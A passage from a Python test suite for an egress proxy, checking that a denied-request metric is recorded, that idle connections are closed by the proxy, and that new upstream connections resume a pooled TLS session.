    assert p.metric(EGRESS_REQUESTS, decision="denied", reason="limit_exceeded") == 1
    with socket.create_connection(("127.0.0.1", p.port), timeout=10) as quiet:
        start = time.monotonic()
        assert quiet.recv(10) == b""  # closed by the proxy, not by our 10 s timeout
        assert time.monotonic() - start < 8


def test_a_new_upstream_connection_resumes_the_tls_session(proxy: ProxyProcess, upstreams: dict[str, Seen]) -> None:
    """The upstream closes after each answer, so every request needs a new upstream connection: after
    the first, each resumes the TLS session the pool kept (no full handshake)."""
    for _ in range(3):
        assert get(proxy, "https://files.example.org/close").status == 200
    seen = [r for r in upstreams["files"].requests if r["path"] == "/close"][-3:]
    assert [r["tls_resumed"] for r in seen][1:] == [True, True]
